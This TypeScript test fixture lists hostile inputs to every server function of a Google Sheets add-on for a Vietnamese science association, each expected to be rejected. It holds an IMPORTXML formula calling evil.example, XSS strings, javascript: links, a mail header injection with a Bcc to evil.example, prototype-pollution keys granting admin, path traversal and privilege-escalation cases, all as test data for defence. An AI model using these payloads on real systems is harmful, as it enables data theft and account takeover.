// Hostile inputs to every server function a sidebar or dialog can call, as data: each must be refused in Vietnamese with nothing written.

/** Placeholders filled in at run time with ids that exist in the test workbook. */
export const EVENT_ID = '$EVENT';
export const CANCELLED_ID = '$CANCELLED';
export const LINE_ID = '$LINE';
export const DOC_ID = '$DOC';

export interface HostileInput {
  /** The server function, as google.script.run names it. */
  fn: string;
  /** What the input is meant to break. */
  kind: 'type' | 'missing' | 'huge' | 'formula' | 'html' | 'proto' | 'date' | 'number' | 'nfd' | 'control' | 'range' | 'unknown' | 'rights';
  why: string;
  /** As a JSON text when the value cannot be written as a literal (own "__proto__" keys). */
  args: unknown[] | string;
  /**
   * Call the function directly rather than through google.script.run, which would turn NaN and
   * Infinity into null and refuse undefined holes: what a script or a tampered client could send.
   */
  direct?: boolean;
  /** Call as this user (default: the admin). */
  user?: 'staff';
}

const OK_EVENT = { targetCode: 'P2.1', date: '2024-03-10', title: 'Tư vấn đề án chuyển đổi số', quantity: 1 };
const OK_LINE = { programCode: 'P2', item: 'Hội nghị tư vấn', unit: 'cuộc', quantity: 2, unitPrice: 1000000, stage: 'Dự thảo' };
const HUGE = 'Tư vấn '.repeat(20000);
const NFD = 'Tư vấn'.normalize('NFD');
const FORMULA = '=IMPORTXML("https://evil.example/x","//a")';
const SCRIPT = '<script>alert(document.cookie)</script>';
const IMG = '<img src=x onerror=alert(1)>';

export const CORPUS: HostileInput[] = [
  // logEvent
  { fn: 'logEvent', kind: 'type', why: 'no argument at all', args: [] },
  { fn: 'logEvent', kind: 'type', why: 'a string instead of an object', args: ['P2.1;2024-03-10;Tư vấn'] },
  { fn: 'logEvent', kind: 'type', why: 'an array instead of an object', args: [[OK_EVENT]] },
  { fn: 'logEvent', kind: 'type', why: 'null', args: [null] },
  { fn: 'logEvent', kind: 'type', why: 'quantity as an object', args: [{ ...OK_EVENT, quantity: { valueOf: 1 } }] },
  { fn: 'logEvent', kind: 'type', why: 'title as an array', args: [{ ...OK_EVENT, title: ['Tư vấn'] }] },
  { fn: 'logEvent', kind: 'type', why: 'targetCode as a number', args: [{ ...OK_EVENT, targetCode: 2.1 }] },
  { fn: 'logEvent', kind: 'type', why: 'cost as a boolean', args: [{ ...OK_EVENT, cost: true }] },
  { fn: 'logEvent', kind: 'missing', why: 'no title', args: [{ targetCode: 'P2.1', date: '2024-03-10', quantity: 1 }] },
  { fn: 'logEvent', kind: 'missing', why: 'no date', args: [{ targetCode: 'P2.1', title: 'Tư vấn', quantity: 1 }] },
  { fn: 'logEvent', kind: 'missing', why: 'blank title (spaces only)', args: [{ ...OK_EVENT, title: '   \u00a0 ' }] },
  { fn: 'logEvent', kind: 'huge', why: 'a 140,000-character title', args: [{ ...OK_EVENT, title: HUGE }] },
  { fn: 'logEvent', kind: 'huge', why: 'a 140,000-character result note', args: [{ ...OK_EVENT, result: HUGE }] },
  { fn: 'logEvent', kind: 'formula', why: 'a formula as the target code', args: [{ ...OK_EVENT, targetCode: '=P2.1' }] },
  { fn: 'logEvent', kind: 'formula', why: 'a formula title with an invalid date: nothing may be written', args: [{ ...OK_EVENT, title: FORMULA, date: '2024-02-30' }] },
  { fn: 'logEvent', kind: 'formula', why: 'a formula as the evidence link', args: [{ ...OK_EVENT, evidenceUrl: '=HYPERLINK("javascript:alert(1)")' }] },
  { fn: 'logEvent', kind: 'html', why: 'a javascript: link as evidence', args: [{ ...OK_EVENT, evidenceUrl: 'javascript:alert(1)' }] },
  { fn: 'logEvent', kind: 'html', why: 'script tag as the budget line id', args: [{ ...OK_EVENT, budgetLineId: SCRIPT }] },
  { fn: 'logEvent', kind: 'html', why: 'img onerror as the target code', args: [{ ...OK_EVENT, targetCode: IMG }] },
  { fn: 'logEvent', kind: 'proto', why: '__proto__ key carrying isAdmin', args: `[{"targetCode":"P2.1","date":"2024-03-10","title":"Tư vấn","quantity":1,"__proto__":{"isAdmin":true,"id":"HD-2024-9999"}}]` },
  { fn: 'logEvent', kind: 'proto', why: 'constructor.prototype key', args: [{ ...OK_EVENT, constructor: { prototype: { polluted: true } } }] },
  { fn: 'logEvent', kind: 'unknown', why: 'an id chosen by the client', args: [{ ...OK_EVENT, id: 'HD-2024-0001' }] },
  { fn: 'logEvent', kind: 'unknown', why: 'createdBy forged by the client', args: [{ ...OK_EVENT, createdBy: 'chutich@lhh.example.vn' }] },
  { fn: 'logEvent', kind: 'date', why: '30 February', args: [{ ...OK_EVENT, date: '2024-02-30' }] },
  { fn: 'logEvent', kind: 'date', why: 'a date outside the plan year', args: [{ ...OK_EVENT, date: '1899-12-30' }] },
  { fn: 'logEvent', kind: 'date', why: 'a date with a time and zone', args: [{ ...OK_EVENT, date: '2024-03-10T25:00:00Z' }] },
  { fn: 'logEvent', kind: 'date', why: 'a day-first date that does not exist', args: [{ ...OK_EVENT, date: '31/04/2024' }] },
  { fn: 'logEvent', kind: 'date', why: 'the word "hôm nay"', args: [{ ...OK_EVENT, date: 'hôm nay' }] },
  { fn: 'logEvent', kind: 'number', why: 'NaN quantity', args: [{ ...OK_EVENT, quantity: NaN }], direct: true },
  { fn: 'logEvent', kind: 'number', why: 'Infinity cost', args: [{ ...OK_EVENT, cost: Infinity }], direct: true },
  { fn: 'logEvent', kind: 'number', why: 'negative zero-and-a-half quantity', args: [{ ...OK_EVENT, quantity: -0.5 }] },
  { fn: 'logEvent', kind: 'number', why: 'quantity "1e309" (Infinity as text)', args: [{ ...OK_EVENT, quantity: '1e309' }] },
  { fn: 'logEvent', kind: 'number', why: 'cost beyond 10^13 đồng', args: [{ ...OK_EVENT, cost: 9e15 }] },
  { fn: 'logEvent', kind: 'number', why: 'fractional cost in đồng', args: [{ ...OK_EVENT, cost: 1500000.5 }] },
  { fn: 'logEvent', kind: 'number', why: 'participants "NaN"', args: [{ ...OK_EVENT, participants: 'NaN' }] },
  { fn: 'logEvent', kind: 'nfd', why: 'an NFD title with a 30 February date', args: [{ ...OK_EVENT, title: NFD, date: '2024-02-30' }] },
  { fn: 'logEvent', kind: 'nfd', why: 'an unknown target code (Vietnamese letters, NFD)', args: [{ ...OK_EVENT, targetCode: 'Đ2.1'.normalize('NFD') }] },
  { fn: 'logEvent', kind: 'control', why: 'NUL and bell characters in the title', args: [{ ...OK_EVENT, title: 'Tư vấn\u0000\u0007' }] },
  { fn: 'logEvent', kind: 'range', why: 'a target code not in the plan', args: [{ ...OK_EVENT, targetCode: 'P9.9' }] },
  // updateEvent
  { fn: 'updateEvent', kind: 'missing', why: 'no id', args: [undefined, { title: 'x' }], direct: true },
  { fn: 'updateEvent', kind: 'type', why: 'id as an object', args: [{ id: EVENT_ID }, { title: 'x' }] },
  { fn: 'updateEvent', kind: 'type', why: 'patch as a string', args: [EVENT_ID, 'title=x'] },
  { fn: 'updateEvent', kind: 'range', why: 'an id that does not exist', args: ['HD-2024-9999', { title: 'x' }] },
  { fn: 'updateEvent', kind: 'range', why: 'editing a cancelled event', args: [CANCELLED_ID, { title: 'Sửa hoạt động đã hủy' }] },
  { fn: 'updateEvent', kind: 'unknown', why: 'patch forging the state back to valid', args: [EVENT_ID, { state: 'Hiệu lực', createdBy: 'x@y.vn' }] },
  {
    fn: 'updateEvent',
    kind: 'proto',
    why: '__proto__ in the patch',
    args: `["$EVENT",{"__proto__":{"state":"Đã hủy"},"title":"x"}]`,
  },
  { fn: 'updateEvent', kind: 'formula', why: 'formula id', args: ['=A1', { title: 'x' }] },
  { fn: 'updateEvent', kind: 'nfd', why: 'NFD location with an invalid quantity', args: [EVENT_ID, { location: 'Bắc Giang'.normalize('NFD'), quantity: 0 }] },
  { fn: 'updateEvent', kind: 'huge', why: 'a 140,000-character location', args: [EVENT_ID, { location: HUGE }] },
  // cancelEvent
  { fn: 'cancelEvent', kind: 'missing', why: 'no reason', args: [EVENT_ID] },
  { fn: 'cancelEvent', kind: 'missing', why: 'blank reason', args: [EVENT_ID, '   '] },
  { fn: 'cancelEvent', kind: 'type', why: 'reason as a number', args: [EVENT_ID, 42] },
  { fn: 'cancelEvent', kind: 'huge', why: 'a 140,000-character reason', args: [EVENT_ID, HUGE] },
  { fn: 'cancelEvent', kind: 'range', why: 'cancelling twice', args: [CANCELLED_ID, 'Hủy lần hai'] },
  { fn: 'cancelEvent', kind: 'html', why: 'script id', args: [SCRIPT, 'Lý do'] },
  // setTargetStatus
  { fn: 'setTargetStatus', kind: 'range', why: 'a status not in the list', args: ['P1.1', { status: 'Xong rồi' }] },
  { fn: 'setTargetStatus', kind: 'nfd', why: 'a status in NFD with an unknown target', args: ['P9.1', { status: 'Hoàn thành'.normalize('NFD') }] },
  { fn: 'setTargetStatus', kind: 'type', why: 'note as an array', args: ['P1.1', { status: 'Hoàn thành', note: ['a'] }] },
  { fn: 'setTargetStatus', kind: 'missing', why: 'no code', args: [null, { status: 'Hoàn thành' }] },
  { fn: 'setTargetStatus', kind: 'huge', why: 'a 140,000-character note', args: ['P1.1', { status: 'Hoàn thành', note: HUGE }] },
  // getProgress
  { fn: 'getProgress', kind: 'date', why: 'from after to', args: [{ from: '2024-12-31', to: '2024-01-01' }] },
  { fn: 'getProgress', kind: 'date', why: 'a 13th month', args: [{ from: '2024-13-01' }] },
  { fn: 'getProgress', kind: 'type', why: 'range as a string', args: ['2024'] },
  { fn: 'getProgress', kind: 'number', why: 'from as NaN', args: [{ from: NaN }], direct: true },
  // saveBudgetLine
  { fn: 'saveBudgetLine', kind: 'type', why: 'null', args: [null] },
  { fn: 'saveBudgetLine', kind: 'missing', why: 'no item', args: [{ ...OK_LINE, item: '' }] },
  { fn: 'saveBudgetLine', kind: 'number', why: 'negative unit price', args: [{ ...OK_LINE, unitPrice: -1000 }] },
  { fn: 'saveBudgetLine', kind: 'number', why: 'Infinity quantity', args: [{ ...OK_LINE, quantity: Infinity }], direct: true },
  { fn: 'saveBudgetLine', kind: 'number', why: 'NaN unit price', args: [{ ...OK_LINE, unitPrice: NaN }], direct: true },
  { fn: 'saveBudgetLine', kind: 'number', why: 'unit price "1,5 tỷ"', args: [{ ...OK_LINE, unitPrice: '1,5 tỷ' }] },
  { fn: 'saveBudgetLine', kind: 'range', why: 'a stage not in the workflow', args: [{ ...OK_LINE, stage: 'Đã chi' }] },
  { fn: 'saveBudgetLine', kind: 'range', why: 'a programme not in the plan', args: [{ ...OK_LINE, programCode: 'P7' }] },
  { fn: 'saveBudgetLine', kind: 'range', why: 'an id that does not exist', args: [{ ...OK_LINE, id: 'KP-2024-999' }] },
  { fn: 'saveBudgetLine', kind: 'formula', why: 'a formula id', args: [{ ...OK_LINE, id: '=KP-2024-001' }] },
  { fn: 'saveBudgetLine', kind: 'html', why: 'script tag as the programme', args: [{ ...OK_LINE, programCode: SCRIPT }] },
  { fn: 'saveBudgetLine', kind: 'proto', why: '__proto__ carrying proposed', args: `[{"programCode":"P2","item":"Hội nghị","quantity":1,"unitPrice":1,"stage":"Dự thảo","__proto__":{"proposed":999999999}}]` },
  { fn: 'saveBudgetLine', kind: 'unknown', why: 'the computed "spent" sent by the client', args: [{ ...OK_LINE, spent: 0 }] },
  { fn: 'saveBudgetLine', kind: 'huge', why: 'a 140,000-character item', args: [{ ...OK_LINE, item: HUGE }] },
  { fn: 'saveBudgetLine', kind: 'nfd', why: 'NFD stage with a negative quantity', args: [{ ...OK_LINE, stage: 'Dự thảo'.normalize('NFD'), quantity: -3 }] },
  // goToCell
  { fn: 'goToCell', kind: 'formula', why: 'a formula as the cell', args: ['Hoạt động', '=A1'] },
  { fn: 'goToCell', kind: 'range', why: 'a sheet that does not exist', args: ['Trang không có', 'A1'] },
  { fn: 'goToCell', kind: 'type', why: 'numbers', args: [1, 1] },
  { fn: 'goToCell', kind: 'html', why: 'script as the sheet name', args: [SCRIPT, 'A1'] },
  // previewReport / generateReport / sendReport
  { fn: 'previewReport', kind: 'range', why: 'an unknown kind', args: [{ kind: 'pdf' }] },
  { fn: 'previewReport', kind: 'type', why: 'no argument', args: [] },
  { fn: 'generateReport', kind: 'date', why: 'to before from', args: [{ kind: 'progress', from: '2024-06-30', to: '2024-01-01' }] },
  { fn: 'generateReport', kind: 'date', why: 'a range in another century', args: [{ kind: 'progress', from: '1924-01-01', to: '1924-06-30' }] },
  { fn: 'generateReport', kind: 'html', why: 'script tag as the kind', args: [{ kind: SCRIPT }] },
  { fn: 'generateReport', kind: 'proto', why: '__proto__ carrying the kind', args: `[{"__proto__":{"kind":"progress"}}]` },
  { fn: 'sendReport', kind: 'range', why: 'a document id not in the register', args: [{ kind: 'progress', docId: '1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms' }] },
  { fn: 'sendReport', kind: 'type', why: 'an array', args: [['progress']] },
  { fn: 'sendReport', kind: 'range', why: 'an unknown kind without a document', args: [{ kind: 'newsletter' }] },
  // Settings
  { fn: 'saveSettings', kind: 'type', why: 'a string', args: ['orgName=X'] },
  { fn: 'saveSettings', kind: 'proto', why: '__proto__ carrying admins', args: `[{"__proto__":{"admins":["ke.gian@evil.example"]}}]` },
  { fn: 'saveSettings', kind: 'proto', why: 'constructor key', args: [{ constructor: { name: 'x' } }] },
  { fn: 'saveSettings', kind: 'unknown', why: 'a field the settings do not have', args: [{ isAdmin: true }] },
  { fn: 'saveSettings', kind: 'html', why: 'script in a recipient address', args: [{ reportRecipients: [`so${SCRIPT}@khcn.vn`] }] },
  { fn: 'saveSettings', kind: 'html', why: 'header injection in a recipient address', args: [{ reportRecipients: ['so@khcn.vn\r\nBcc: all@evil.example'] }] },
  { fn: 'saveSettings', kind: 'formula', why: 'formula as the document code', args: [{ orgCode: '=LHH' }] },
  {
    fn: 'saveSettings',
    kind: 'huge',
    why: 'a 140,000-character organisation name',
    args: [{ orgName: HUGE }],
  },
  { fn: 'saveSettings', kind: 'number', why: 'hour 24', args: [{ schedule: { hour: 24 } }] },
  { fn: 'saveSettings', kind: 'number', why: 'NaN hour', args: [{ schedule: { hour: NaN } }], direct: true },
  { fn: 'saveSettings', kind: 'missing', why: 'no admin left', args: [{ admins: [] }] },
  { fn: 'saveSettings', kind: 'missing', why: 'blank organisation name', args: [{ orgName: '  ' }] },
  { fn: 'saveSettings', kind: 'date', why: 'decision dated 2023-02-29', args: [{ decision: { number: '1731/QĐ-UBND', date: '2023-02-29', issuer: 'UBND' } }] },
  { fn: 'saveSettings', kind: 'rights', why: 'a staff member adding themself as admin', args: [{ admins: ['admin@lhh.example.vn', 'canbo@lhh.example.vn'] }], user: 'staff' },
  { fn: 'setNextNumber', kind: 'range', why: 'an unknown document type', args: [{ type: 'KH', next: 5 }] },
  { fn: 'setNextNumber', kind: 'number', why: 'zero', args: [{ type: 'BC', next: 0 }] },
  { fn: 'setNextNumber', kind: 'number', why: 'fractional', args: [{ type: 'BC', next: 2.5 }] },
  { fn: 'setNextNumber', kind: 'number', why: 'Infinity', args: [{ type: 'BC', next: Infinity }], direct: true },
  { fn: 'setNextNumber', kind: 'rights', why: 'staff setting the next number', args: [{ type: 'BC', next: 7 }], user: 'staff' },
  { fn: 'checkGoogleConnection', kind: 'rights', why: 'staff running the Google self-check (it writes a scratch tab and document)', args: [], user: 'staff' },
  // Plan
  { fn: 'importDecision', kind: 'type', why: 'text as an object', args: [{ text: 'Quyết định' }] },
  { fn: 'importDecision', kind: 'huge', why: 'a 1,400,000-character decision', args: ['Điều 1. '.repeat(180000), { apply: true }] },
  { fn: 'importDecision', kind: 'control', why: 'control characters in the decision', args: ['QUYẾT ĐỊNH\u0000\u0001 Điều 1.', { apply: true }] },
  { fn: 'importDecision', kind: 'proto', why: '__proto__ in the options', args: `["QUYẾT ĐỊNH", {"__proto__": {"apply": true}, "year": "2024"}]` },
  { fn: 'importDecision', kind: 'rights', why: 'staff applying a decision', args: ['QUYẾT ĐỊNH Điều 1. Chương trình 1', { apply: true }], user: 'staff' },
  { fn: 'setupWorkbook', kind: 'range', why: 'an unknown template', args: [{ template: '../../etc/passwd' }] },
  { fn: 'setupWorkbook', kind: 'number', why: 'year NaN', args: [{ template: 'blank', year: NaN }], direct: true },
  { fn: 'setupWorkbook', kind: 'rights', why: 'staff re-running setup', args: [], user: 'staff' },
  { fn: 'setupWorkbook', kind: 'type', why: 'a new province\'s decision text as an object', args: [{ template: 'decision', text: { text: 'Quyết định' } }] },
  { fn: 'setupWorkbook', kind: 'huge', why: 'a 1,400,000-character decision for a new province', args: [{ template: 'decision', text: 'Điều 1. '.repeat(180000) }] },
  { fn: 'setupWorkbook', kind: 'control', why: 'control characters in a new province\'s decision', args: [{ template: 'decision', text: 'QUYẾT ĐỊNH\u0000\u0001 Điều 1.' }] },
  {
    fn: 'setupWorkbook',
    kind: 'number',
    why: 'a new province\'s plan edited with a quantity in words',
    args: [
      {
        template: 'decision',
        year: 2026,
        text: '(Kèm theo Quyết định số 5/QĐ-UBND ngày 05/01/2026 của Chủ tịch UBND tỉnh Nghệ An)\nNhiệm vụ thứ nhất: Tư vấn\nNội dung, nhiệm vụ:\n- Tổ chức 05 cuộc tư vấn.',
        edits: { programs: [{ code: 'P1', name: 'Tư vấn' }], targets: [{ code: 'P1.1', programCode: 'P1', name: 'Tư vấn', quantity: 'mười', unit: 'cuộc' }] },
      },
    ],
  },
  { fn: 'getPlan', kind: 'number', why: 'a fractional year', args: [{ year: 2024.5 }] },
  { fn: 'getPlan', kind: 'type', why: 'year as text', args: [{ year: '2024; DROP TABLE' }] },
  // Experts, associations, bodies (issue 15)
  { fn: 'saveExpert', kind: 'type', why: 'a string instead of an object', args: ['Nguyễn Văn An;TS'] },
  { fn: 'saveExpert', kind: 'missing', why: 'no name', args: [{ fields: ['Môi trường'] }] },
  { fn: 'saveExpert', kind: 'missing', why: 'no field of expertise', args: [{ name: 'Nguyễn Văn An' }] },
  { fn: 'saveExpert', kind: 'huge', why: 'a 140,000-character name', args: [{ name: HUGE, fields: ['Môi trường'] }] },
  { fn: 'saveExpert', kind: 'formula', why: 'a formula name with a field not in the list', args: [{ name: FORMULA, fields: ['Thiên văn'] }] },
  { fn: 'saveExpert', kind: 'html', why: 'a script tag as the association code', args: [{ name: 'Nguyễn Văn An', fields: ['Môi trường'], associationCode: SCRIPT }] },
  { fn: 'saveExpert', kind: 'proto', why: '__proto__ key carrying a code', args: `[{"name":"Nguyễn Văn An","fields":["Môi trường"],"__proto__":{"code":"CG-0001"}}]` },
  { fn: 'saveExpert', kind: 'unknown', why: 'an edit of an expert that does not exist', args: [{ code: 'CG-9999', name: 'Nguyễn Văn An', fields: ['Môi trường'] }] },
  { fn: 'saveExpert', kind: 'date', why: 'consent dated 30 February', args: [{ name: 'Nguyễn Văn An', fields: ['Môi trường'], consent: true, consentDate: '2024-02-30' }] },
  { fn: 'saveExpert', kind: 'nfd', why: 'an NFD name with an unknown workplace', args: [{ name: NFD, fields: ['Môi trường'], workplaceCode: 'KHÔNG-CÓ' }] },
  { fn: 'saveExpert', kind: 'type', why: 'an email that is not one', args: [{ name: 'Nguyễn Văn An', fields: ['Môi trường'], email: 'an@' }] },
  { fn: 'saveExpert', kind: 'rights', why: 'staff not named in settings writing a phone number', args: [{ name: 'Nguyễn Văn An', fields: ['Môi trường'], phone: '0912 345 678' }], user: 'staff' },
  { fn: 'setExpertState', kind: 'missing', why: 'no code', args: [] },
  { fn: 'setExpertState', kind: 'range', why: 'an unknown state', args: ['CG-0001', 'Xóa hết'] },
  { fn: 'setExpertState', kind: 'unknown', why: 'an expert that does not exist', args: ['CG-9999', 'Ngừng hoạt động'] },
  { fn: 'setExpertState', kind: 'rights', why: 'staff anonymising an expert', args: ['CG-0001', 'Ẩn danh'], user: 'staff' },
  { fn: 'pasteExperts', kind: 'type', why: 'rows as an object', args: [{ text: 'Nguyễn Văn An' }, true] },
  { fn: 'pasteExperts', kind: 'missing', why: 'nothing pasted', args: ['   ', true] },
  { fn: 'pasteExperts', kind: 'huge', why: 'a 2,100,000-character paste', args: ['Nguyễn Văn An\tTS\n'.repeat(120000), true] },
  { fn: 'pasteExperts', kind: 'formula', why: 'a row with a formula name and a bad email', args: [`${FORMULA}\t\tTS\tMôi trường\t\t\t\t\t\t\tsai@`, true] },
  { fn: 'pasteExperts', kind: 'rights', why: 'staff pasting phone numbers', args: ['Nguyễn Văn An\t\tTS\tMôi trường\t\t\t\t\t\t0912 345 678', true], user: 'staff' },
  { fn: 'saveAssociation', kind: 'missing', why: 'no name', args: [{ chair: 'Nguyễn Văn An' }] },
  { fn: 'saveAssociation', kind: 'number', why: 'negative members', args: [{ name: 'Hội Y học', members: -5 }] },
  { fn: 'saveAssociation', kind: 'unknown', why: 'an association that does not exist', args: [{ code: 'HTV-99', name: 'Hội Y học' }] },
  { fn: 'saveAssociation', kind: 'rights', why: 'staff writing the chair\'s email', args: [{ name: 'Hội Y học', email: 'hoiyhoc@example.vn' }], user: 'staff' },
  { fn: 'saveOrganisation', kind: 'missing', why: 'no name', args: [{ email: 'so@example.vn' }] },
  { fn: 'saveOrganisation', kind: 'formula', why: 'a formula as the code', args: [{ code: '=A1', name: 'Sở Y tế' }] },
  { fn: 'saveOrganisation', kind: 'type', why: 'an email that is not one', args: [{ name: 'Sở Y tế', email: '<b>so</b>' }] },
  { fn: 'getContact', kind: 'type', why: 'a code as an object', args: [{ code: 'CG-0001' }] },
  { fn: 'getContact', kind: 'html', why: 'a script tag as the code', args: [SCRIPT] },
  { fn: 'getContact', kind: 'rights', why: 'staff not named in settings', args: ['CG-0001'], user: 'staff' },
  // Consultation dossiers
  { fn: 'saveDossier', kind: 'type', why: 'an array instead of an object', args: [['Phản biện']] },
  { fn: 'saveDossier', kind: 'missing', why: 'no subject', args: [{ consultKind: 'Phản biện', requesterCode: 'STNMT' }] },
  { fn: 'saveDossier', kind: 'range', why: 'an unknown kind', args: [{ consultKind: 'Thẩm định', subject: 'Đề án', requesterCode: 'STNMT' }] },
  { fn: 'saveDossier', kind: 'unknown', why: 'a requesting body not in the list', args: [{ consultKind: 'Phản biện', subject: 'Đề án', requesterCode: 'KHÔNG-CÓ' }] },
  { fn: 'saveDossier', kind: 'date', why: 'a deadline before the request', args: [{ consultKind: 'Phản biện', subject: 'Đề án', requesterCode: 'X', requestDate: '2024-04-10', deadline: '2024-04-01' }] },
  { fn: 'saveDossier', kind: 'huge', why: 'a 140,000-character subject', args: [{ consultKind: 'Phản biện', subject: HUGE, requesterCode: 'X' }] },
  { fn: 'saveDossier', kind: 'proto', why: '__proto__ key carrying a state', args: `[{"consultKind":"Phản biện","subject":"Đề án","__proto__":{"state":"Đã gửi kết quả"}}]` },
  { fn: 'savePanel', kind: 'missing', why: 'no dossier', args: [] },
  { fn: 'savePanel', kind: 'unknown', why: 'a dossier that does not exist', args: ['TVPB-2024-999', [{ expertCode: 'CG-0001', role: 'Ủy viên' }]] },
  { fn: 'issueDossierPaper', kind: 'range', why: 'an unknown paper', args: ['TVPB-2024-001', 'contract'] },
  { fn: 'issueDossierPaper', kind: 'unknown', why: 'a dossier that does not exist', args: ['TVPB-2024-999', 'answer'] },
  { fn: 'sendDossierAnswer', kind: 'type', why: 'a code as an object', args: [{ code: 'TVPB-2024-001' }] },
  { fn: 'sendDossierAnswer', kind: 'unknown', why: 'a dossier that does not exist', args: ['TVPB-2024-999'] },
  { fn: 'recordDossierSent', kind: 'missing', why: 'no answer number', args: ['TVPB-2024-001', { answerDate: '2024-04-10' }] },
  { fn: 'recordDossierSent', kind: 'date', why: '31 April', args: ['TVPB-2024-001', { answerNumber: '05/BC-LHH', answerDate: '2024-04-31' }] },
  { fn: 'recordDossierSent', kind: 'html', why: 'a javascript: link to the signed answer', args: ['TVPB-2024-001', { answerNumber: '05/BC-LHH', answerDate: '2024-04-10', answerUrl: 'javascript:alert(1)' }] },
  { fn: 'moveDossier', kind: 'range', why: 'straight to "Đã gửi kết quả" without an answer', args: ['TVPB-2024-001', { to: 'Đã gửi kết quả' }] },
  { fn: 'moveDossier', kind: 'huge', why: 'a 140,000-character reason', args: ['TVPB-2024-001', { to: 'Hủy', reason: HUGE }] },
  { fn: 'moveDossier', kind: 'unknown', why: 'a dossier that does not exist', args: ['TVPB-2024-999', { to: 'Hủy', reason: 'Trùng' }] },
  // Forms (issue 17)
  { fn: 'createForm', kind: 'type', why: 'a string instead of an object', args: ['activity'] },
  { fn: 'createForm', kind: 'range', why: 'a kind of form the add-on does not make', args: [{ formKind: 'survey', deadline: '2024-12-31' }] },
  { fn: 'createForm', kind: 'missing', why: 'an activity report with no quarter', args: [{ formKind: 'activity', deadline: '2024-12-31' }] },
  { fn: 'createForm', kind: 'date', why: '31 September as the deadline', args: [{ formKind: 'training', deadline: '2024-09-31' }] },
  { fn: 'createForm', kind: 'date', why: 'a deadline already past', args: [{ formKind: 'training', deadline: '2024-01-02' }] },
  { fn: 'createForm', kind: 'proto', why: '__proto__ key carrying a form id', args: `[{"formKind":"training","deadline":"2024-12-31","__proto__":{"formId":"1FmEvil"}}]` },
  { fn: 'createForm', kind: 'rights', why: 'staff, not an admin', args: [{ formKind: 'training', deadline: '2024-12-31' }], user: 'staff' },
  { fn: 'sendForm', kind: 'missing', why: 'no recipients', args: [{ formCode: 'BM-2024-0001', recipients: [] }] },
  { fn: 'sendForm', kind: 'formula', why: 'a formula as a recipient code', args: [{ formCode: 'BM-2024-0001', recipients: ['=IMPORTRANGE("x","A1")'] }] },
  { fn: 'sendForm', kind: 'unknown', why: 'a form that does not exist', args: [{ formCode: 'BM-2024-0999', recipients: ['HTV-01'] }] },
  { fn: 'sendForm', kind: 'huge', why: '5,000 recipients', args: [{ formCode: 'BM-2024-0001', recipients: Array.from({ length: 5000 }, (_, i) => `HTV-${i}`) }] },
  { fn: 'getFormResponses', kind: 'type', why: 'a code as an object', args: [{ code: 'BM-2024-0001' }] },
  { fn: 'getFormResponses', kind: 'html', why: 'a script tag as the code', args: [SCRIPT] },
  { fn: 'reviewResponse', kind: 'range', why: 'a verdict that is neither accept nor reject', args: [{ formCode: 'BM-2024-0001', key: 'BM-2024-0001|HTV-01|2024-07-05T02:00:00Z', verdict: 'maybe' }] },
  { fn: 'reviewResponse', kind: 'missing', why: 'a rejection with no reason', args: [{ formCode: 'BM-2024-0001', key: 'BM-2024-0001|HTV-01|2024-07-05T02:00:00Z', verdict: 'reject' }] },
  { fn: 'reviewResponse', kind: 'control', why: 'a reason with control characters', args: [{ formCode: 'BM-2024-0001', key: 'k', verdict: 'reject', rejectReason: 'Sai\u0007' }] },
  { fn: 'reviewResponse', kind: 'unknown', why: 'a response key of a form that does not exist', args: [{ formCode: 'BM-2024-0999', key: 'BM-2024-0999|HTV-01|2024-07-05T02:00:00Z', verdict: 'accept', targetCode: 'P3.4' }] },
  { fn: 'reviewResponse', kind: 'formula', why: 'a formula as the target', args: [{ formCode: 'BM-2024-0001', key: 'k', verdict: 'accept', targetCode: '=P3.4' }] },
  // Demands, planned events and technology suppliers (issue 17)
  { fn: 'saveDemand', kind: 'type', why: 'a string instead of an object', args: ['Tập huấn trồng bưởi'] },
  { fn: 'saveDemand', kind: 'missing', why: 'no topic', args: [{ demandKind: 'Tập huấn', proposerName: 'Hội Làm vườn' }] },
  { fn: 'saveDemand', kind: 'missing', why: 'nobody asked for it', args: [{ demandKind: 'Tập huấn', topic: 'Trồng bưởi' }] },
  { fn: 'saveDemand', kind: 'range', why: 'an unknown kind', args: [{ demandKind: 'Du lịch', topic: 'Trồng bưởi', proposerName: 'Hội Làm vườn' }] },
  { fn: 'saveDemand', kind: 'range', why: 'a fifth quarter', args: [{ demandKind: 'Tập huấn', topic: 'Trồng bưởi', proposerName: 'Hội Làm vườn', quarter: 'Quý V' }] },
  { fn: 'saveDemand', kind: 'number', why: 'negative participants', args: [{ demandKind: 'Tập huấn', topic: 'Trồng bưởi', proposerName: 'Hội Làm vườn', participants: -40 }] },
  { fn: 'saveDemand', kind: 'number', why: 'participants as NaN', args: [{ demandKind: 'Tập huấn', topic: 'Trồng bưởi', proposerName: 'Hội Làm vườn', participants: NaN }], direct: true },
  { fn: 'saveDemand', kind: 'huge', why: 'a 140,000-character topic', args: [{ demandKind: 'Tập huấn', topic: HUGE, proposerName: 'Hội Làm vườn' }] },
  { fn: 'saveDemand', kind: 'formula', why: 'a formula as the proposer code', args: [{ demandKind: 'Tập huấn', topic: 'Trồng bưởi', proposerCode: '=IMPORTRANGE("x","A1")' }] },
  { fn: 'saveDemand', kind: 'html', why: 'a script tag as the proposer code', args: [{ demandKind: 'Tập huấn', topic: 'Trồng bưởi', proposerCode: SCRIPT }] },
  { fn: 'saveDemand', kind: 'control', why: 'a control character in the topic', args: [{ demandKind: 'Tập huấn', topic: 'Trồng\u0007 bưởi', proposerName: 'Hội Làm vườn' }] },
  { fn: 'saveDemand', kind: 'nfd', why: 'an NFD kind with a bad quarter: nothing written', args: [{ demandKind: 'Tập huấn'.normalize('NFD'), topic: NFD, proposerName: 'Hội', quarter: '5' }] },
  { fn: 'saveDemand', kind: 'proto', why: '__proto__ key carrying a state', args: `[{"demandKind":"Tập huấn","topic":"Trồng bưởi","proposerName":"Hội","__proto__":{"state":"Đã thực hiện"}}]` },
  { fn: 'saveDemand', kind: 'unknown', why: 'a source forged by the client', args: [{ demandKind: 'Tập huấn', topic: 'Trồng bưởi', proposerName: 'Hội', source: 'X-01|2024-03-01' }] },
  { fn: 'saveDemand', kind: 'unknown', why: 'a demand that does not exist', args: [{ code: 'NC-2024-9999', demandKind: 'Tập huấn', topic: 'Trồng bưởi', proposerName: 'Hội' }] },
];

/** Functions of the sidebars that take no input: extra junk arguments are ignored, and they only read. */
export const NO_INPUT = ['getLogView', 'getBudgetView', 'getDataProblems', 'getSettings', 'getExpertsView', 'getDossierView', 'getDemandView', 'getFormsView'];
